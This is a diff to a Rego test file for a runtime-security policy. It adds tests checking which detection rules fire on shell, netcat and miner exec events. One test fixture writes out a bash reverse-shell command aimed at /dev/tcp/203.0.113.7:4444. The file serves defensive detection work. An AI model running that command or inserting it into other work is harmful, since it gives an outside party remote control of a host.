@@ -1,5 +1,5 @@
 # Tests of the aggregation in main.rego: modes, exceptions, actors in the
-# decision, indexing by event kind, and the decision's shape.
+# decision, indexing by event kind, triggers, and the decision's shape.
 package palisade.main_test
 
 import rego.v1
@@ -356,4 +356,24 @@ test_drift_in_a_container_blocks_in_enforce_mode_and_alerts_in_audit if {
 	audit := main.decision with input as ev
 	audit.action == "alert"
 	audit.would_block == true
+}
+
+# ---------------------------------------------------------------- triggers
+
+test_positive_events_trigger_the_rules_they_hit if {
+	shell := fx.host_exec("/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"])
+	main.triggered_rules == {"PAL-002"} with input as shell
+	count(main.untriggered_hits) == 0 with input as shell
+	main.triggered_rules == {"PAL-001"} with input as nc_event
+	count(main.untriggered_hits) == 0 with input as nc_event
+	# PAL-002 is triggered by nc's "-o" too, and does not hit.
+	main.triggered_rules == {"PAL-001", "PAL-002", "PAL-010"} with input as nc_miner_event
+	count(main.untriggered_hits) == 0 with input as nc_miner_event
+	d := main.decision with input as nc_miner_event
+	[m.rule | some m in d.matched] == ["PAL-001", "PAL-010"]
+}
+
+test_benign_execs_trigger_no_rule if {
+	count(main.triggered_rules) == 0 with input as fx.host_exec("/usr/bin/ls", ["ls", "-l"])
+	count(main.triggered_rules) == 0 with input as fx.container_exec("/app/server", ["/app/server", "--port", "8080"])
 }
